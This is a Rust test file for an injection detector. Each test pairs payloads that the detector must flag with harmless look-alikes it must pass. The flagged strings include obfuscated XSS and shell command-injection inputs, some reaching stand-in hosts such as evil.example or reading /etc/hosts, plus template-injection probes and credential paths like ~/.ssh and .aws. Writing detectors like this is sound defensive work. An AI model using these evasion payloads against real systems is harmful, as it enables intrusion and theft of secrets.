//! What browsers, shells and template engines execute, each with the harmless text that resembles it.

use super::super::Class;
use super::{assert_found, rule_of};

#[test]
fn finds_script_whose_place_the_value_itself_closes_and_whose_rest_it_cuts_off_or_opens_again() {
    assert_found(
        Class::Xss,
        &[
            "';f(7)//",
            "\\';f(7)//",
            "ann');f(7)//",
            "\"}];void f(7)//\"",
            "';if(7)f(7)//",
            "'\nf(7)//",
            "'-(0,f)(7)-'",
            "\"/f('a')/\"",
            "`+f(7)+`",
            "'?f(7):'",
            "';f(7);a='",
            "'-[]['filter']['constructor'](a)()-'",
            "7;f(7)//",
            "7);f(7)/*",
            "*/f(7)/*",
            "ann\nf(7)//",
            "\nalert(7)",
            "7;fetch('//evil.example')",
            "(0,alert)(7)",
        ],
    );
    for value in [
        "the dogs' (x) //",
        "let a = 'b'; // (c)",
        "f('a'); //",
        "\"a\", f(b), \"c\",",
        "a\":[1,\"f(b)\",2,\"",
        "r\"^(a|b)?\"",
        "say \"f(7)\" or 'g(7)'",
        "see 'a'; (b) and https://",
        "1. fetch(it); 2. go",
        "(see alert)(7)",
    ] {
        assert_eq!(rule_of(value), None, "{value}");
    }
}

#[test]
fn finds_commands_whose_names_a_shell_expands_or_that_stand_in_their_directory() {
    assert_found(
        Class::Command,
        &[
            "7;c${x:-a}t /etc/hosts",
            "7;${x:-id}",
            "7;${x-id}",
            "7;$\"id\"",
            "7;c$'a't /etc/hosts",
            "7;'/bin/id'",
            "a b ; /usr/bin/id",
            "7;cat</etc/hosts #",
            "7;sleep .5",
            "7;if id;then :;fi",
            "7;while id;do break;done",
            "7;mapfile a</etc/hosts",
            "7;docker ps",
        ],
    );
    for value in [
        "run x; ${EDITOR:-vi} a",
        "a;${x}id",
        "r\"^true|false$\"",
        "<b>a;cat</b></p> of it",
        "while it lasts; if time allows",
        "7; while (date) it",
        "see a/bin; date it",
        "sleep .5",
    ] {
        assert_eq!(rule_of(value), None, "{value}");
    }
}

#[test]
fn finds_commands_behind_a_string_that_the_value_closes_and_on_a_line_of_their_own() {
    assert_found(
        Class::Command,
        &[
            "\";id \"",
            "ann\"&id;\"",
            "'&whoami#",
            "\"|id \"",
            "ann';a=id;$a'",
            "7;a=i;b=d;$a$b",
            "x\n/b?n/c?t /etc/hosts",
            "x\n$SHELL -c id",
            "--post-file=/etc/hosts",
            "--rsh=touch x",
        ],
    );
    for value in [
        "{ \"amd64\"; \"which\"; }",
        "title=\"&date;\"",
        "a=\"b\"; time to go",
        "it costs\n$a and more",
        "/a\n/b?c=/d",
        "--rshift",
        "<a href=7 id=an-anchor-of-some-length-before-the-rest>7</a> A&lt;$f&gt;",
    ] {
        assert_eq!(rule_of(value), None, "{value}");
    }
}

#[test]
fn finds_commands_behind_variables_that_are_set_and_broken_up_by_what_a_shell_makes_nothing_of() {
    assert_found(
        Class::Command,
        &[
            "7;i$(:)d",
            "7;hostn`:`ame",
            "7;who${*:1}ami",
            "7;who${x:-}ami",
            "$(x=id;$x)",
            "`x=id;$x`",
            "7$(A=1 B=2 id)",
            "7`A=1 ls -la`",
            "7;A=1 whoami",
            "$((`id`))",
            "7`nc a 7`",
            "ann\"`id`\"",
            "7<(curl a.example)",
        ],
    );
    for value in [
        "(r\"`\\w+'*`\", a)",
        "f(C`printf(C'R, f(C`fileno",
        "<b>log</b>(hostname, a)",
        "say \"`date`\"",
        "a #[cfg(all($(target_feature=$tf,)*))]\n            true",
        "a;b=7 true",
        "$(MAKE) it",
    ] {
        assert_eq!(rule_of(value), None, "{value}");
    }
}

#[test]
fn finds_script_that_frameworks_run_and_urls_whose_type_a_browser_trims() {
    assert_found(
        Class::Xss,
        &[
            "<p v-if=\"$emit.constructor(`f(7)`)()\">",
            "<p :a=\"a.constructor('f(7)')()\">",
            "{{-function(){this.alert(7)}()}}",
            "{{a.b.c.alert(7)}}",
            "data:text/html                                                                              ,%3Cb%3E",
            "data:text/xsl;base64,PGI+",
            "x href= javascript:f(7)",
            "\" onwebkitfullscreenerror=f(7) a=\"",
            "<esi:include src=//evil.example/>",
        ],
    );
    for value in [
        "this.constructor('a (b)')",
        "super.constructor(\"a\"); b()",
        "{{ alert }} (7)",
        "see the data: text/html   and more, or less",
        "said= javascript (it)",
        "<essay:part a=b>",
    ] {
        assert_eq!(rule_of(value), None, "{value}");
    }
}

#[test]
fn finds_arithmetic_of_templates_in_brackets_and_with_fractions() {
    assert_found(Class::Template, &["{{(7*7)}}", "{{7.0*7}}", "${7*(7)}", "{% print(7) %}"]);
    for value in ["{{(a)}}", "{{(7)}}", "{{ 7.0 }}", "{{7.b}}"] {
        assert_eq!(rule_of(value), None, "{value}");
    }
}

#[test]
fn finds_every_file_of_the_directories_that_keys_are_kept_in() {
    assert_found(
        Class::Path,
        &["~/.ssh/config", "/srv/ann/.aws/config", "/.docker/config.json", "/.npmrc", "/.hg/store"],
    );
    for value in ["keep it in ~/.ssh/config", "/.well-known/a", "/a.ssh", "sshd/config"] {
        assert_eq!(rule_of(value), None, "{value}");
    }
}
